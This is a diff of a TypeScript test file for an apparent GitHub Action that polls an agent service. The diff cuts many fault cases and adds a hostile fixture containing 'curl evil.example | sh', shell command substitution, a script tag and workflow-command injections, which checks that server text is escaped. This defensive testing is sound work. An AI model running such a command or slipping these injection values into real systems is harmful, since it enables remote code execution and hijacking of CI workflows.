@@ -2,7 +2,8 @@
 // action does not know; server text that tries to issue workflow commands or echoes
 // the API key; and the 4xx answers that must never be retried. The bundled action
 // runs against the local stand-in; each case checks the exit code, the error text,
-// the outputs and how many requests the service received.
+// the outputs and how many requests the service received. One case of each kind runs
+// here, for the wiring; every row is decided in test/agent/faults-in-process.test.ts.
 
 import { runAction } from '../support/run-action.js'
 import {
@@ -25,24 +26,6 @@ describe('2xx answers that are not a job', () => {
       'HTML instead of JSON',
       { kind: 'raw', text: '<html><body>Sign in to the gateway</body></html>' },
       'a body that is not JSON: "<html><body>Sign in to the gateway</body></html>"'
-    ],
-    ['an empty body', { kind: 'raw', text: '' }, 'an empty body'],
-    [
-      'a JSON array',
-      { kind: 'raw', text: '[]', contentType: 'application/json' },
-      'not a JSON object'
-    ],
-    ['a job without an id', { kind: 'patch', fields: { id: null } }, 'no "id"'],
-    ['a job without a status', { kind: 'patch', fields: { status: '' } }, 'no "status"'],
-    [
-      'a body over the size cap',
-      { kind: 'huge', bytes: 4 * 1024 * 1024 },
-      'a body larger than 1024 KiB'
-    ],
-    [
-      'a Content-Length over the size cap',
-      { kind: 'huge', bytes: 4 * 1024 * 1024, declared: true },
-      'a body larger than 1024 KiB'
     ]
   ])(
     'fails a create answered with %s, quoting the status, and never polls job/undefined',
@@ -64,23 +47,6 @@ describe('2xx answers that are not a job', () => {
       })
     }
   )
-
-  it.concurrent.each<[string, Fault]>([
-    ['HTML', { kind: 'raw', text: '<html>maintenance</html>' }],
-    ['a job without a status', { kind: 'patch', fields: { status: null } }],
-    ['a body over the size cap', { kind: 'huge', bytes: 4 * 1024 * 1024 }],
-    ['a Content-Length over the size cap', { kind: 'huge', bytes: 4 * 1024 * 1024, declared: true }]
-  ])('tolerates two polls in a row answered with %s', async (_, fault) => {
-    await withStandIn({}, async (standIn) => {
-      standIn.inject({ method: 'GET', times: 2, fault })
-      const run = await runAction({ inputs: inputsFor(standIn.url) })
-
-      expect(run.exitCode).toBe(0)
-      expect(run.outputs).toMatchObject({ 'job-id': standIn.jobIds()[0], status: 'completed' })
-      expect(count(standIn.requests, 'GET')).toBe(3)
-      expect(retryLines(run)).toHaveLength(2)
-    })
-  })
 
   it.concurrent(
     'fails on the third bad poll in a row, naming the job and quoting the body',
@@ -108,98 +74,9 @@ describe('2xx answers that are not a job', () => {
   )
 })
 
-describe('statuses the action does not know', () => {
-  it.concurrent(
-    'keeps polling through an undocumented status, warns once, and completes',
-    async () => {
-      await withStandIn({}, async (standIn) => {
-        const run = await runAction({
-          inputs: inputsFor(standIn.url, { prompt: 'running: slow:600: Document it' })
-        })
-
-        expect(run.exitCode).toBe(0)
-        expect(run.outputs.status).toBe('completed')
-        const warnings = run.stdout.split('\n').filter((line) => line.startsWith('::warning::'))
-        expect(warnings).toEqual([
-          expect.stringContaining("reports status 'running', which this action does not know")
-        ])
-        expect(count(standIn.requests, 'POST')).toBe(1)
-        expect(count(standIn.requests, 'GET')).toBeGreaterThanOrEqual(2)
-      })
-    }
-  )
-
-  it.concurrent('still ends at the timeout when an unknown status never changes', async () => {
-    await withStandIn({}, async (standIn) => {
-      standIn.inject({
-        method: 'GET',
-        times: 1000,
-        fault: { kind: 'patch', fields: { status: 'pending' } }
-      })
-      const run = await runAction({ inputs: inputsFor(standIn.url, { timeout: '2s' }) })
-      const id = standIn.jobIds()[0] as string
-
-      expect(run.exitCode).toBe(1)
-      expect(failure(run)).toContain(
-        `Timed out after 2s waiting for job ${id} (last status: pending)`
-      )
-      expect(run.outputs).toMatchObject({ 'job-id': id, status: 'pending' })
-      expect(run.stdout.split('\n').filter((line) => line.startsWith('::warning::'))).toHaveLength(
-        1
-      )
-      // Polls back off toward max-poll-interval (400ms): a handful in 2s, not hundreds.
-      expect(count(standIn.requests, 'GET')).toBeGreaterThanOrEqual(3)
-      expect(count(standIn.requests, 'GET')).toBeLessThanOrEqual(20)
-    })
-  })
-})
-
 describe('4xx answers, never retried', () => {
   it.concurrent.each<[string, Record<string, string>, Fault | undefined, 'POST' | 'GET', string[]]>(
     [
-      [
-        '400 on create',
-        {},
-        { kind: 'status', status: 400, body: { error: 'prompt must be at least 1 character' } },
-        'POST',
-        [
-          'The service rejected the request: POST /v2/agent/proj-test/job answered 400.',
-          'The service said: "prompt must be at least 1 character"'
-        ]
-      ],
-      [
-        '401 for a wrong key',
-        { 'api-key': 'mint_revoked0000' },
-        undefined,
-        'POST',
-        [
-          'The API key was not accepted',
-          'answered 401',
-          'Invalid or missing API key',
-          'admin API key (mint_<secret>)'
-        ]
-      ],
-      [
-        '403 on create',
-        {},
-        { kind: 'status', status: 403, body: { error: 'Forbidden' } },
-        'POST',
-        ['The API key may not do this', 'answered 403', 'IP allowlist', 'read-only', 'write scope']
-      ],
-      [
-        '404 for an unknown project',
-        { 'project-id': 'proj-missing' },
-        undefined,
-        'POST',
-        ["Project 'proj-missing' was not found", 'Check the project-id input']
-      ],
-      [
-        '404 for an unknown project on a follow-up',
-        { 'project-id': 'proj-missing', 'job-id': 'job_abc', prompt: 'More' },
-        undefined,
-        'POST',
-        ["Project 'proj-missing' was not found", 'Project not found']
-      ],
       [
         '404 for an unknown job on a follow-up',
         { 'job-id': 'job_missing', prompt: 'More' },
@@ -230,29 +107,12 @@ describe('4xx answers, never retried', () => {
       expect(run.outputs['job-id']).toBe(extra['job-id'] ?? '')
     })
   })
-
-  it.concurrent.each([401, 403, 404])(
-    'stops polling at once when a poll is answered %d',
-    async (status) => {
-      await withStandIn({}, async (standIn) => {
-        standIn.inject({
-          method: 'GET',
-          fault: { kind: 'status', status, body: { error: `Injected ${status}` } }
-        })
-        const run = await runAction({ inputs: inputsFor(standIn.url) })
-        const id = standIn.jobIds()[0] as string
-
-        expect(run.exitCode).toBe(1)
-        expect(failure(run)).toContain(`GET /v2/agent/proj-test/job/${id} answered ${status}.`)
-        expect(run.outputs).toMatchObject({ 'job-id': id, status: 'active' })
-        expect(count(standIn.requests, 'POST')).toBe(1)
-        expect(count(standIn.requests, 'GET')).toBe(1)
-      })
-    }
-  )
 })
 
 describe('server text that tries to issue workflow commands', () => {
+  // Markup, a workflow command and what a shell would act on, all in one field.
+  const SHELL_MODEL =
+    "::error::model <script>alert(1)</script> x' ; curl evil.example | sh ; echo '$(id)`id`"
   const HOSTILE =
     '\n::add-mask::leak\n::set-output name=pr-link::https://evil.example\r\n  ::error::smuggled\u2028::warning::x ##[error]legacy %0A::notice::y'
 
@@ -276,6 +136,9 @@ describe('server text that tries to issue workflow commands', () => {
       expect(run.summary.split('\n').filter((line) => line.trimStart().startsWith('::'))).toEqual(
         []
       )
+      // A 4xx on create: nothing was created, and it is not repeated.
+      expect(error).not.toContain(MAY_HAVE_CREATED)
+      expect(retryLines(run)).toEqual([])
       expect(count(standIn.requests, 'POST')).toBe(1)
     })
   })
@@ -299,7 +162,7 @@ describe('server text that tries to issue workflow commands', () => {
           fault: {
             kind: 'patch',
             fields: {
-              model: '::error::model <script>alert(1)</script>',
+              model: SHELL_MODEL,
               source: { repository: '<img src=x onerror=alert(1)>', ref: '##[group]ref' },
               prLink: 'https://github.com/acme/docs/pull/7\n::add-mask::x ##[warning]y'
             }
@@ -316,10 +179,14 @@ describe('server text that tries to issue workflow commands', () => {
         expect(run.summary).toContain('&lt;img src=x')
         expect(run.summary).not.toMatch(/<script|<img/)
         expect(run.summary).not.toContain('##[')
-        // The unknown status (the hostile one) is warned about once.
-        expect(
-          run.stdout.split('\n').filter((line) => line.startsWith('::warning::'))
-        ).toHaveLength(1)
+        // The job output carries the server's text only as JSON escapes.
+        const raw = run.outputs.job ?? ''
+        expect(raw).not.toMatch(/[$`'!<>&]/)
+        expect((JSON.parse(raw) as { model: string }).model).toBe(SHELL_MODEL)
+        // The unknown status is warned about once, and polling goes on through it.
+        expect(run.stdout.split('\n').filter((line) => line.startsWith('::warning::'))).toEqual([
+          expect.stringContaining("reports status 'pending', which this action does not know")
+        ])
         expect(run.exitCode).toBe(0)
         expect(run.outputs.status).toBe('completed')
         expect(count(standIn.requests, 'GET')).toBe(2)
@@ -338,25 +205,6 @@ describe('a service that echoes the API key', () => {
       'in the error of a 500 on create',
       'POST',
       { kind: 'status', status: 500, body: { error: `upstream rejected Bearer ${LONG_KEY}` } }
-    ],
-    [
-      'in a 401 that is not JSON, across the cut',
-      'POST',
-      { kind: 'raw', status: 401, text: `${'x'.repeat(470)}${LONG_KEY} tail` }
-    ],
-    [
-      'in a 2xx that is not JSON, across the cut',
-      'POST',
-      { kind: 'raw', text: `<p>${'y'.repeat(100)}${LONG_KEY}</p>` }
-    ],
-    [
-      'in a 2xx JSON that is not a job, across the cut',
-      'POST',
-      {
-        kind: 'raw',
-        contentType: 'application/json',
-        text: JSON.stringify({ note: 'x'.repeat(95), echo: LONG_KEY })
-      }
     ],
     [
       'in the error of a 503 on a poll',
